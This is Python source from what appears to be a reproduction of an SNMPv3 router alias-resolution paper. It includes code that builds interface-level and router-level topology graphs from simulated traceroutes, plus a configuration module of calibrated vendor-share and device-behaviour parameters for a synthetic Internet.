                address = interface_of(device, version, hop_key)
                if address is not None:
                    add(address)
        return revealed
