"""Interface- and router-level topology graphs.

Alias resolution exists to turn traceroute's *interface-level* view of
the Internet into the *router-level* topology operators actually run —
the transformation behind CAIDA's ITDK, which the paper both consumes
(Table 2) and improves on.  This module makes that transformation
explicit:

* :func:`interface_graph` — nodes are interface addresses, edges are
  consecutive traceroute hops: what the raw measurement sees;
* :func:`collapse_with_aliases` — contract each alias set into one node:
  what alias resolution recovers;
* :func:`graph_statistics` — the summary numbers showing why collapsing
  matters (node inflation, degree distortion).

Graphs are :mod:`networkx` objects, so downstream analyses (components,
centrality, shortest paths) come for free.
"""

from __future__ import annotations

from dataclasses import dataclass

import networkx as nx

from repro.alias.sets import AliasSets
from repro.net.addresses import IPAddress
from repro.topology.model import Topology
from repro.topology.traceroute import TracerouteEngine


def interface_graph(
    topology: Topology,
    vantage_asns: "list[int] | None" = None,
    targets: "list[IPAddress] | None" = None,
    engine: "TracerouteEngine | None" = None,
) -> "nx.Graph":
    """Build the interface-level graph from traceroute campaigns.

    Nodes are responding hop addresses; an edge joins addresses seen on
    consecutive responding hops of some trace.  Silent hops break the
    chain, exactly as they fragment real traceroute-derived topologies.
    """
    engine = engine or TracerouteEngine(topology)
    if vantage_asns is None:
        vantage_asns = sorted(topology.ases)[:8]
    if targets is None:
        targets = [
            device.interfaces[0].address
            for device in topology.devices.values()
        ]
    graph = nx.Graph()
    for index, target in enumerate(targets):
        vantage = vantage_asns[index % len(vantage_asns)]
        previous = None
        for hop in engine.trace(vantage, target):
            if not hop.responded:
                previous = None
                continue
            graph.add_node(hop.address)
            if previous is not None and previous != hop.address:
                graph.add_edge(previous, hop.address)
            previous = hop.address
    return graph


def collapse_with_aliases(graph: "nx.Graph", alias_sets: AliasSets) -> "nx.Graph":
    """Contract every alias set to a single router node.

    Nodes absent from any alias set stay as singleton routers (their own
    interface), matching how ITDK treats unresolved addresses.
    """
    representative: dict[IPAddress, IPAddress] = {}
    for group in alias_sets.sets:
        anchor = min(group, key=int)
        for address in group:
            representative[address] = anchor
    collapsed = nx.Graph()
    for node in graph.nodes:
        collapsed.add_node(representative.get(node, node))
    for left, right in graph.edges:
        a = representative.get(left, left)
        b = representative.get(right, right)
        if a != b:
            collapsed.add_edge(a, b)
    return collapsed


@dataclass(frozen=True)
class GraphComparison:
    """Interface-level vs router-level summary."""

    interface_nodes: int
    interface_edges: int
    router_nodes: int
    router_edges: int
    interface_components: int
    router_components: int
    max_degree_interface: int
    max_degree_router: int

    @property
    def node_reduction(self) -> float:
        """Fraction of 'routers' in the raw view that were duplicates."""
        if self.interface_nodes == 0:
            return 0.0
        return 1.0 - self.router_nodes / self.interface_nodes


def graph_statistics(graph: "nx.Graph", collapsed: "nx.Graph") -> GraphComparison:
    """Compare the raw interface view against the alias-collapsed one."""
    return GraphComparison(
        interface_nodes=graph.number_of_nodes(),
        interface_edges=graph.number_of_edges(),
        router_nodes=collapsed.number_of_nodes(),
        router_edges=collapsed.number_of_edges(),
        interface_components=nx.number_connected_components(graph)
        if graph.number_of_nodes()
        else 0,
        router_components=nx.number_connected_components(collapsed)
        if collapsed.number_of_nodes()
        else 0,
        max_degree_interface=max((d for __, d in graph.degree), default=0),
        max_degree_router=max((d for __, d in collapsed.degree), default=0),
    )


def true_router_graph(topology: Topology, graph: "nx.Graph") -> "nx.Graph":
    """Ground truth: collapse by actual device ownership (the oracle)."""
    truth = AliasSets(
        sets=[
            frozenset(addresses)
            for addresses in topology.true_alias_sets().values()
        ],
        technique="ground-truth",
    )
    return collapse_with_aliases(graph, truth)
