"""Topology generation parameters, calibrated to the paper's evaluation.

Every distribution the generator samples from is a field here, so
experiments can ablate a single knob.  The calibration targets are the
paper's reported shapes:

* regional router totals and vendor mixes (Figures 15/16/18),
* device-level vendor popularity (Figure 11) vs router-level (Figure 12),
* engine-ID format mix (Figure 5) and Hamming-weight behaviour (Figure 6),
* uptime distribution (Figure 13), per-AS size and dominance ECDFs
  (Figures 14/17/20), responsiveness/coverage (Figure 10),
* the §4.4 filter populations (zero times, future times, churn, reboots,
  shared-engine-ID bug, amplification).

Absolute counts are scaled by ``scale_divisor`` relative to the paper's
Internet-wide numbers (346,951 routers / 4.6M devices / 22,787 ASes).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.topology.model import Region

# -- vendor mixes -------------------------------------------------------------

#: Router vendor share per region (Figure 15: Cisco dominant everywhere,
#: Huawei ~27% in AS / ~22% in EU / ~14% in SA+AF / absent in NA).
ROUTER_VENDOR_SHARE: dict[Region, dict[str, float]] = {
    Region.EU: {
        "Cisco": 0.60, "Huawei": 0.18, "Net-SNMP": 0.06, "Juniper": 0.06,
        "H3C": 0.025, "OneAccess": 0.02, "Ruijie": 0.01, "Brocade": 0.015,
        "Adtran": 0.01, "Ambit": 0.005, "MikroTik": 0.015,
    },
    Region.NA: {
        "Cisco": 0.77, "Huawei": 0.0, "Net-SNMP": 0.07, "Juniper": 0.09,
        "H3C": 0.005, "OneAccess": 0.005, "Ruijie": 0.0, "Brocade": 0.025,
        "Adtran": 0.02, "Ambit": 0.005, "MikroTik": 0.01,
    },
    Region.AS: {
        "Cisco": 0.54, "Huawei": 0.25, "Net-SNMP": 0.05, "Juniper": 0.05,
        "H3C": 0.05, "OneAccess": 0.005, "Ruijie": 0.03, "Brocade": 0.01,
        "Adtran": 0.005, "Ambit": 0.005, "MikroTik": 0.005,
    },
    Region.SA: {
        "Cisco": 0.66, "Huawei": 0.14, "Net-SNMP": 0.06, "Juniper": 0.05,
        "H3C": 0.02, "OneAccess": 0.01, "Ruijie": 0.015, "Brocade": 0.01,
        "Adtran": 0.01, "Ambit": 0.005, "MikroTik": 0.02,
    },
    Region.AF: {
        "Cisco": 0.65, "Huawei": 0.14, "Net-SNMP": 0.06, "Juniper": 0.05,
        "H3C": 0.03, "OneAccess": 0.01, "Ruijie": 0.02, "Brocade": 0.01,
        "Adtran": 0.005, "Ambit": 0.005, "MikroTik": 0.02,
    },
    Region.OC: {
        "Cisco": 0.76, "Huawei": 0.005, "Net-SNMP": 0.08, "Juniper": 0.08,
        "H3C": 0.01, "OneAccess": 0.005, "Ruijie": 0.005, "Brocade": 0.02,
        "Adtran": 0.015, "Ambit": 0.005, "MikroTik": 0.015,
    },
}

#: Server vendor share: overwhelmingly Net-SNMP (Linux/BSD boxes), the
#: largest bar of Figure 11.
SERVER_VENDOR_SHARE: dict[str, float] = {
    "Net-SNMP": 0.80, "Cisco": 0.05, "HP": 0.04, "Dell": 0.04,
    "Supermicro": 0.03, "VMware": 0.02, "Intel": 0.02,
}

#: CPE / home-office vendor share (Figure 11's Broadcom, Thomson, Netgear,
#: Ambit bars live here).
#: The class also covers enterprise edge gear (switches, small firewalls),
#: which is how Cisco reaches Figure 11's ~900k devices despite "only"
#: ~240k routers.
CPE_VENDOR_SHARE: dict[str, float] = {
    "Broadcom": 0.16, "Thomson": 0.16, "Netgear": 0.13, "Cisco": 0.24,
    "Ambit": 0.055, "Huawei": 0.04, "Technicolor": 0.04, "TP-Link": 0.04,
    "Sagemcom": 0.035, "AVM": 0.03, "ZyXEL": 0.025, "D-Link": 0.025,
    "Ubiquiti": 0.02, "MikroTik": 0.015, "ZTE": 0.015, "Ruijie": 0.01,
    "H3C": 0.005, "Calix": 0.005,
}

#: Engine-ID format policy per vendor: (format, weight) choices.  Formats:
#: "mac", "ipv4", "text", "octets", "net-snmp", "legacy" (non-conforming).
ENGINE_ID_POLICY: dict[str, tuple[tuple[str, float], ...]] = {
    "Cisco": (("mac", 0.96), ("text", 0.04)),
    "Huawei": (("mac", 0.80), ("legacy", 0.20)),
    "Juniper": (("mac", 0.92), ("octets", 0.08)),
    "H3C": (("mac", 0.95), ("legacy", 0.05)),
    "Net-SNMP": (("net-snmp", 1.0),),
    "Broadcom": (("octets", 0.75), ("mac", 0.25)),
    "Thomson": (("legacy", 0.65), ("mac", 0.35)),
    "Netgear": (("mac", 0.90), ("legacy", 0.10)),
    "Ambit": (("mac", 0.90), ("octets", 0.10)),
    "Ruijie": (("mac", 1.0),),
    "Brocade": (("mac", 1.0),),
    "Adtran": (("mac", 0.90), ("text", 0.10)),
    "OneAccess": (("ipv4", 0.70), ("mac", 0.30)),
    "MikroTik": (("octets", 0.60), ("mac", 0.40)),
    "Technicolor": (("legacy", 0.60), ("mac", 0.40)),
    "TP-Link": (("mac", 0.70), ("legacy", 0.30)),
    "Sagemcom": (("mac", 0.60), ("ipv4", 0.40)),
    "AVM": (("mac", 1.0),),
    "ZyXEL": (("mac", 0.70), ("octets", 0.30)),
    "D-Link": (("mac", 0.80), ("legacy", 0.20)),
    "Ubiquiti": (("mac", 1.0),),
    "Huawei-CPE": (("ipv4", 0.55), ("mac", 0.45)),
    "ZTE": (("ipv4", 0.50), ("mac", 0.50)),
    "Calix": (("mac", 1.0),),
    "HP": (("mac", 0.80), ("octets", 0.20)),
    "Dell": (("mac", 0.80), ("octets", 0.20)),
    "Supermicro": (("mac", 1.0),),
    "VMware": (("octets", 1.0),),
    "Intel": (("mac", 1.0),),
}

#: Initial-TTL signature per vendor OS family (Vanaubel-style, §7.1):
#: (iTTL of ICMP echo reply, iTTL of ICMP exceeded).  Note Huawei shares
#: Cisco's signature — the ambiguity the paper points out.
TTL_SIGNATURES: dict[str, tuple[int, int]] = {
    "Cisco": (255, 255),
    "Huawei": (255, 255),
    "Juniper": (64, 255),
    "Brocade": (64, 255),
    "Net-SNMP": (64, 64),
    "H3C": (255, 255),
    "MikroTik": (64, 64),
}

#: Per-region AS-count weights (derived from the paper's Figure 18 panel:
#: EU 870, NA 663, AS 530, AF 99, SA 92, OC 74 ASes with 10+ routers).
REGION_AS_WEIGHTS: dict[Region, float] = {
    Region.EU: 0.35,
    Region.NA: 0.27,
    Region.AS: 0.22,
    Region.SA: 0.055,
    Region.AF: 0.055,
    Region.OC: 0.05,
}

#: Regional router totals from Figure 15 (EU 134k, NA 97k, AS 81k, SA 22k,
#: AF 5k, OC 5k) expressed as weights.
REGION_ROUTER_WEIGHTS: dict[Region, float] = {
    Region.EU: 134.0 / 344.0,
    Region.NA: 97.0 / 344.0,
    Region.AS: 81.0 / 344.0,
    Region.SA: 22.0 / 344.0,
    Region.AF: 5.0 / 344.0,
    Region.OC: 5.0 / 344.0,
}


@dataclass
class TopologyConfig:
    """All generation knobs.  Defaults reproduce the paper at 1/100 scale."""

    seed: int = 2021
    scale_divisor: float = 100.0

    #: Topology layout. ``"sequential"`` threads one seeded RNG through
    #: every device in creation order (the classic byte-stable world);
    #: ``"streamed"`` derives each device independently from
    #: ``(seed, asn, slot)`` so it can be rebuilt lazily at probe time.
    layout: str = "sequential"
    #: Streamed layout only: IPv4 addresses reserved per device slot.
    #: Must cover the largest multi-IP device.
    stream_v4_block: int = 8
    #: Streamed layout only: default cap on concurrently materialized
    #: devices held by a :class:`~repro.topology.lazy.LazyTopology`.
    stream_max_resident: int = 4096
    #: Fraction of agents given an adversarial personality (garbage
    #: reports, padded engine IDs, response delay, reboot-on-handle).
    #: Zero by default so legacy seeded streams are untouched.
    adversarial_frac: float = 0.0

    def __post_init__(self) -> None:
        if self.scale_divisor <= 0:
            raise ValueError(
                f"scale_divisor must be positive, got {self.scale_divisor!r}"
            )
        if self.layout not in ("sequential", "streamed"):
            raise ValueError(
                f"layout must be 'sequential' or 'streamed', got {self.layout!r}"
            )
        if self.stream_v4_block < 2:
            raise ValueError(
                f"stream_v4_block must be >= 2, got {self.stream_v4_block!r}"
            )

    # Population sizes (paper-scale numbers; divided by scale_divisor).
    paper_n_ases: int = 25_000
    paper_n_routers: int = 347_000
    paper_n_servers: int = 1_200_000
    paper_n_cpe: int = 3_100_000

    # Routers per AS: Pareto-like tail (Figure 20).  The cap tracks the
    # paper's largest network (9.4k routers) under scaling.
    router_per_as_alpha: float = 0.55
    paper_router_per_as_max: int = 9_400

    # Interfaces per router: lognormal, more for dual-stack boxes.
    router_iface_mu: float = 1.1
    router_iface_sigma: float = 1.05
    router_iface_max: int = 400
    dual_stack_iface_boost: float = 6.0

    # Protocol mix for routers (paper: 307k v4-only, 25k v6-only, 15k dual).
    router_v6_only_frac: float = 0.071
    router_dual_frac: float = 0.043

    # Multi-address end hosts: multihomed/virtual-host servers and
    # ISP-gateway CPE (the untagged multi-IP devices behind the paper's
    # 70%-of-IPs-in-non-singleton-sets figure).
    server_multi_ip_frac: float = 0.35
    server_multi_ip_max: int = 5
    cpe_multi_ip_frac: float = 0.10
    cpe_multi_ip_max: int = 8

    # SLAAC/EUI-64: fraction of IPv6 interfaces whose address embeds the
    # interface MAC (the cross-correlation surface of the Rye/Beverly
    # line of work the paper cites).
    eui64_v6_frac: float = 0.30

    # CPE protocol mix and churn.
    cpe_v6_frac: float = 0.35
    cpe_dual_frac: float = 0.012
    cpe_dhcp_churn_frac: float = 0.15   # re-addressed between the two scans
    server_v6_frac: float = 0.05
    server_dual_frac: float = 0.08   # dual-stack servers: a large share of
                                     # the paper's 31.2k dual-stack sets

    # SNMP exposure.  Router openness is an AS-level policy (Figure 10's
    # wide coverage spread): most networks filter management traffic, some
    # leave it wide open.  (rate, weight) mixture; the overall mean lands
    # near §5.4's 16% responsive router IPs.
    as_router_open_rates: tuple[tuple[float, float], ...] = (
        (0.02, 0.28), (0.12, 0.42), (0.38, 0.18), (0.78, 0.12),
    )
    #: Large networks run segregated management; their routers rarely
    #: answer from the open Internet.  (rate, weight) mixture for ASes
    #: with at least ``large_as_threshold`` routers.
    large_as_open_rates: tuple[tuple[float, float], ...] = (
        (0.03, 0.45), (0.10, 0.40), (0.25, 0.15),
    )
    large_as_threshold: int = 30
    juniper_open_factor: float = 0.4     # Junos needs explicit per-iface enable
    server_snmp_open: float = 0.45
    cpe_snmp_open: float = 0.65
    acl_interface_frac: float = 0.04     # per-interface ACLs on open routers

    # Vendor dominance per AS (Figure 17: >80% of ASes at >=0.7, with a
    # large spike of strictly single-vendor networks — Figure 14's 40%).
    single_vendor_as_frac: float = 0.42
    dominance_beta_a: float = 6.0
    dominance_beta_b: float = 1.35

    # Implicit SNMPv3: §6.2.1/§8 — some vendors enable v3 as a side
    # effect of configuring a v2c community.  These devices answer
    # discovery today but fall silent under the "require explicit v3"
    # mitigation.
    implicit_v3_vendors: tuple[str, ...] = ("Cisco", "Juniper", "H3C")
    implicit_v3_frac: float = 0.6

    # Behavioural quirk fractions.
    cisco_shared_bug_frac: float = 0.065  # of Cisco CPE-ish boxes: 181k/2.8M
    cpe_shared_engine_models: int = 2     # cloned-firmware v6-visible models
    cpe_shared_engine_frac: float = 0.02
    amplification_frac: float = 0.0006    # 182k of 31M IPv4 responders
    amplification_max: int = 60
    malformed_frac: float = 0.0002
    empty_engine_frac: float = 0.0002
    zero_time_frac: float = 0.065         # 834k/12.8M before that filter
    future_time_frac: float = 0.0018
    promiscuous_models: int = 2           # same engine-ID data across vendors
    promiscuous_frac: float = 0.008
    reboot_between_scans_frac: float = 0.12  # inconsistent engine boots

    # Clock skew (relative drift): routers tight, CPE loose (Figure 8).
    router_skew_sigma: float = 4.0e-6
    server_skew_sigma: float = 8.0e-6
    # CPE clocks are bimodal: NTP-synced gateways keep tight time, the
    # rest free-run on cheap crystals (Figure 8's long IPv4 tail).
    cpe_skew_tight_frac: float = 0.60
    cpe_skew_tight_sigma: float = 5.0e-6
    cpe_skew_sigma: float = 1.2e-4

    # Uptime mixture (Figure 13): weights for <30d, 30-105d, 105-365d, >1y.
    uptime_weights: tuple[float, float, float, float] = (0.17, 0.33, 0.22, 0.28)
    uptime_max_days: float = 3650.0

    # Engine boots: roughly proportional to device age.
    boots_per_year: float = 5.0

    # IP-ID counters for MIDAR/Speedtrap (§5.3).
    sequential_ip_id_frac: float = 0.22
    ip_id_rate_low: float = 0.5
    ip_id_rate_high: float = 300.0

    # Middleboxes (the paper's §9 future-work populations).
    lb_frac_of_servers: float = 0.015     # VIPs fronting several engines
    lb_backends_min: int = 2
    lb_backends_max: int = 5
    lb_source_hash_frac: float = 0.3      # pools invisible to one vantage

    # TCP service exposure for the Nmap comparison (§6.2.3: Nmap got no
    # result for 22.2k of 26.4k routers — no open TCP port).
    router_open_tcp_frac: float = 0.16
    server_open_tcp_frac: float = 0.85
    cpe_open_tcp_frac: float = 0.30

    # rDNS: fraction of router interfaces with PTR records following the
    # AS's naming convention (feeds the §5.2 Router Names comparison).
    rdns_ptr_frac: float = 0.35
    rdns_useful_regex_frac: float = 0.65  # ASes whose convention encodes a router name

    # IPv6 hitlist: scan-target inclusion probability per v6 address class
    # (the 364M-target list), and the much narrower *router-tagging* view —
    # addresses seen as routed hops in hitlist traceroutes.  Residential
    # CPE appear as routed hops only occasionally (§3.4).
    hitlist_router_frac: float = 0.75
    hitlist_cpe_frac: float = 0.80
    hitlist_server_frac: float = 0.70
    hitlist_routed_cpe_frac: float = 0.003

    # ITDK / RIPE coverage of router interfaces.  The RIPE view derives
    # from simulated Atlas traceroutes by default; the sampling fraction
    # is the legacy fallback (ripe_from_traceroutes=False).
    itdk_router_frac: float = 0.80
    ripe_router_frac: float = 0.18
    ripe_from_traceroutes: bool = True
    ripe_vantage_count: int = 10
    ripe_target_frac: float = 0.15

    # Vendor mixes (overridable for ablations).
    router_vendor_share: dict[Region, dict[str, float]] = field(
        default_factory=lambda: {r: dict(v) for r, v in ROUTER_VENDOR_SHARE.items()}
    )
    server_vendor_share: dict[str, float] = field(
        default_factory=lambda: dict(SERVER_VENDOR_SHARE)
    )
    cpe_vendor_share: dict[str, float] = field(
        default_factory=lambda: dict(CPE_VENDOR_SHARE)
    )

    # -- derived counts -----------------------------------------------------

    @property
    def router_per_as_max(self) -> int:
        return max(6, round(self.paper_router_per_as_max / self.scale_divisor))

    @property
    def n_ases(self) -> int:
        return max(6, round(self.paper_n_ases / self.scale_divisor))

    @property
    def n_routers(self) -> int:
        return max(10, round(self.paper_n_routers / self.scale_divisor))

    @property
    def n_servers(self) -> int:
        return max(5, round(self.paper_n_servers / self.scale_divisor))

    @property
    def n_cpe(self) -> int:
        return max(5, round(self.paper_n_cpe / self.scale_divisor))

    # -- presets --------------------------------------------------------------

    @classmethod
    def paper_scale(cls, divisor: float = 100.0, seed: int = 2021) -> "TopologyConfig":
        """The benchmark preset: the paper's Internet at 1/``divisor``."""
        return cls(seed=seed, scale_divisor=divisor)

    @classmethod
    def tiny(cls, seed: int = 2021) -> "TopologyConfig":
        """A small preset for unit tests: ~30 ASes, ~350 routers."""
        return cls(seed=seed, scale_divisor=1000.0)

    @classmethod
    def streamed(cls, divisor: float = 400.0, seed: int = 2021) -> "TopologyConfig":
        """The constant-memory preset: per-slot derivation, lazy-friendly."""
        return cls(seed=seed, scale_divisor=divisor, layout="streamed")
